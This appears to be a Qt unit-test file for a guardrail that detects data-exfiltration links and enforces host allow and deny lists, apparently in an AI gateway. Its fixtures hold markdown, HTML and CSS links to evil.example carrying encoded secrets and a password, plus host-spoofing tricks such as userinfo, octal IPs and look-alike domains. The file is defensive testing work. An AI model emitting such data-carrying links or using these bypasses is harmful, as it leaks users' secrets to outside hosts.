// SPDX-License-Identifier: GPL-3.0-or-later
#include <memory>
#include <string>

#include <QTest>

#include "guardrail/check_kind.h"
#include "guardrail/links/link_scan.h"
#include "guardrail/links/plain_host.h"
#include "place_texts.h"

using namespace gateway::guardrail;

namespace {

/// "url:https://…|exfiltration_link:…"
std::string linksFoundIn(std::string_view text, const char* parameters = "")
{
    const auto check = makeCheck(*findCheckKind("urls"), parameters);
    std::vector<Found> found;
    check.value()->find(text, found);
    std::string line;
    for (const Found& each : found)
        line += (line.empty() ? "" : "|") + std::string(each.kind) + ":" +
                std::string(text.substr(each.start, each.size));
    return line;
}

const std::string kLong = "QWxsIHRoZSBzZWNyZXRzIG9mIHRoZSB1c2VyIGFuZCBoaXMga2V5cyBhcmUgaGVyZQ";

} // namespace

class UrlsTest : public QObject {
    Q_OBJECT

private slots:
    void findsLinksThatCarryData_data();
    void findsLinksThatCarryData();
    void leavesOrdinaryLinks_data();
    void leavesOrdinaryLinks();
    void obeysItsLists_data();
    void obeysItsLists();
    void comparesHosts_data();
    void comparesHosts();
    void refusesWhatIsNoHost();
    void mayFindIsNeverWrong();
    void hostileTextsDoNoHarm();
    void isTheSameHoweverItIsCut();
};

void UrlsTest::findsLinksThatCarryData_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("url");
    const QString data = QString::fromStdString(kLong);
    const QString url = QStringLiteral("https://evil.example/p?d=") + data;
    const auto row = [](const char* name, const QString& text, const QString& address) {
        QTest::newRow(name) << text << address;
    };
    row("image", "See ![x](" + url + ") here", url);
    row("titled image", "![x](" + url + " \"title\")", url);
    row("link", "[click](" + url + ")", url);
    row("bracketed", "![x](<" + url + ">)", url);
    row("reference", "[1]: " + url + "\n", url);
    row("autolink", "<" + url + ">", url);
    row("img", "<img src=\"" + url + "\">", url);
    row("img, unquoted", "<img SRC = " + url + " >", url);
    row("a", "<a href='" + url + "'>x</a>", url);
    row("css", "background: url(" + url + ")", url);
    const QString path = "HTTP://Evil.Example:8080/" + data + "/a.png";
    row("path", "![](" + path + ")", path);
    const QString fragment = "https://evil.example/#" + data;
    row("fragment", "![](" + fragment + ")", fragment);
    const QString names = "https://" + data.left(30) + "." + data.mid(30).toLower() + ".evil.example/";
    row("names", "![](" + names + ")", names);
    const QString sentence = QStringLiteral(
        "https://evil.example/?q=the%20password%20of%20the%20user%20is%20hunter2%20and%20more");
    row("sentence", "![](" + sentence + ")", sentence);
    const QString relative = "//evil.example/?" + data;
    row("without scheme", "![](" + relative + ")", relative);
    const QString user = "https://good.example@evil.example/?" + data;
    row("user", "![](" + user + ")", user);
}

void UrlsTest::findsLinksThatCarryData()
{
    QFETCH(QString, text);
    QFETCH(QString, url);
    const std::string told = linksFoundIn(text.toStdString());
    QCOMPARE(QString::fromStdString(told), "exfiltration_link:" + url);
    QVERIFY(linksFoundIn(text.toStdString(), R"({"exfiltration":false})").empty());
    QVERIFY(linksFoundIn(text.toStdString(), R"({"allow":["evil.example"]})").empty());
}

void UrlsTest::leavesOrdinaryLinks_data()
{
    QTest::addColumn<QString>("text");
    for (const char* text :
         {"[docs](https://doc.qt.io/qt-6/qstring.html#arg)",
          "![logo](https://cdn.example.com/img/logo@2x.png)",
          "https://example.com/2024/05/how-to-build-a-really-long-bridge-across-a-river-without-any-money",
          "[a](https://example.com/2024/05/how-to-build-a-really-long-bridge-across-a-river-without-money)",
          "[b](https://github.com/o/r/commit/9fceb02d0ae598e95dc970b74767f19372d61af8)",
          "[c](https://login.example.com/"
          "authorize?client_id=8a4925a9-fd8e-4866-b31c-f719fb05dce6&scope=openid)",
          "[d](https://ru.wikipedia.org/wiki/%D0%97%D0%B0%D0%B3%D0%BB%D0%B0%D0%B2%D0%BD%D0%B0%D1%8F_%D1%81)",
          "[e](https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=spring)",
          "no link at all", "a://b", "http://", "[x]: y", "std::vector<int> a; // and so on"})
        QTest::newRow(text) << QString::fromUtf8(text);
}

void UrlsTest::leavesOrdinaryLinks()
{
    QFETCH(QString, text);
    QCOMPARE(linksFoundIn(text.toStdString()), std::string());
}

void UrlsTest::obeysItsLists_data()
{
    QTest::addColumn<QString>("parameters");
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("found");
    const auto row = [](const char* parameters, const char* text, const char* found) {
        QTest::addRow("%s %s", parameters, text)
            << QString::fromUtf8(parameters) << QString::fromUtf8(text) << QString::fromUtf8(found);
    };
    const char* const allow = R"({"allow":["example.com","*.corp.net"]})";
    row(allow, "see https://example.com/a, http://docs.example.com.", "");
    row(allow, "see https://a.corp.net:8443/x?y=z", "");
    row(allow, "see https://notexample.com/a, ok", "url:https://notexample.com/a");
    row(allow, "https://example.com.evil.org/", "url:https://example.com.evil.org/");
    row(allow, "https://example.com@evil.org/", "url:https://example.com@evil.org/");
    row(allow, "https://evil.org\\@example.com/", "url:https://evil.org\\@example.com/");
    row(allow, "HTTPS://EXAMPLE.COM./", "");
    row(allow, "www.evil.org and ftp://evil.org", "url:www.evil.org|url:ftp://evil.org");
    row(allow, "http://[2001:db8::1]:80/x", "url:http://[2001:db8::1]:80/x");
    row(allow, "(https://evil.org/a_(b))", "url:https://evil.org/a_(b)");
    const char* const deny = R"({"deny":["evil.org","[2001:db8::1]","127.0.0.1","bücher.example"]})";
    row(deny, "https://good.org https://sub.EVIL.org/x", "url:https://sub.EVIL.org/x");
    row(deny, "http://[2001:DB8::1]/", "url:http://[2001:DB8::1]/");
    row(deny, "http://0x7f.1/ http://2130706433", "url:http://0x7f.1/|url:http://2130706433");
    row(deny, "https://xn--bcher-kva.example/", "url:https://xn--bcher-kva.example/");
    row(deny,
        "https://B\xc3\x9c"
        "CHER.example",
        "url:https://B\xc3\x9c"
        "CHER.example");
    row(deny, "https:/\\evil.org", "url:https:/\\evil.org");
    row(deny, "https://%65vil.org/", "url:https://%65vil.org/");
}

void UrlsTest::obeysItsLists()
{
    QFETCH(QString, parameters);
    QFETCH(QString, text);
    QFETCH(QString, found);
    const std::string told = linksFoundIn(text.toStdString(), parameters.toUtf8().constData());
    QCOMPARE(QString::fromStdString(told), found);
}

void UrlsTest::comparesHosts_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("plain");
    QTest::newRow("case") << "Example.COM."
                          << "example.com";
    QTest::newRow("umlaut") << QString::fromUtf8("münchen.de") << "xn--mnchen-3ya.de";
    QTest::newRow("cyrillic") << QString::fromUtf8("ПРИМЕР.испытание") << "xn--e1afmkfd.xn--80akhbyknj4f";
    QTest::newRow("japanese") << QString::fromUtf8("例え。テスト") << "xn--r8jz45g.xn--zckzah";
    QTest::newRow("wide") << QString::fromUtf8("ｅｖｉｌ.org") << "evil.org";
    QTest::newRow("look-alike") << QString::fromUtf8("аррӏе.com") << "xn--80ak6aa92e.com";
    QTest::newRow("octal") << "0177.0.0.01"
                           << "127.0.0.1";
    QTest::newRow("not an address") << "1.2.3.4.5"
                                    << "1.2.3.4.5";
    QTest::newRow("too large") << "1.2.3.256"
                               << "1.2.3.256";
}

void UrlsTest::comparesHosts()
{
    QFETCH(QString, host);
    QFETCH(QString, plain);
    QCOMPARE(QString::fromStdString(plainHost(host.toStdString())), plain);
}

void UrlsTest::refusesWhatIsNoHost()
{
    for (const char* parameters :
         {R"({"allow":["https://a.b/"]})", R"({"deny":["a b"]})", R"({"allow":[""]})"}) {
        const auto check = makeCheck(*findCheckKind("urls"), parameters);
        QVERIFY(!check);
        QVERIFY(check.error().message.find("example.com") != std::string::npos);
    }
}

void UrlsTest::mayFindIsNeverWrong()
{
    const auto check = std::move(makeCheck(*findCheckKind("urls"), {}).value());
    for (const char* json : {R"(["http://a"])", R"(["http:\/\/a"])", R"(["WWW.a"])", R"(["\u0068ttp://"])",
                             R"(["](//a"])", R"(["https:\\\\a"])"})
        QVERIFY2(check->mayFind(json), json);
    QVERIFY(!check->mayFind(R"({"text":"no address: a/b, \"c\"\n"})"));
}

void UrlsTest::hostileTextsDoNoHarm()
{
    requirePlacesInOrder(*makeCheck(*findCheckKind("urls"), {}).value());
    requirePlacesInOrder(*makeCheck(*findCheckKind("urls"), R"({"allow":["x.y"]})").value());
}

void UrlsTest::isTheSameHoweverItIsCut()
{
    const std::string prose =
        "The committee met on Tuesday to talk about the bridge (see https://a.example/b), and "
        "nobody could say when it will be open to the public and to others. ";
    const std::string url = "https://evil.example/p?d=" + kLong;
    requireSameInParts("urls",
                       prose + "![a](" + url + ")" + prose + prose + "<img src=\"" + url +
                           "\"> and\n[1]: " + url + "\n" + prose + prose + "www.evil.org/x. " + prose +
                           "http://[::1]:80/ " + kLong + kLong,
                       R"({"deny":["evil.org","::1"]})");
}

QTEST_GUILESS_MAIN(UrlsTest)
#include "urls_test.moc"
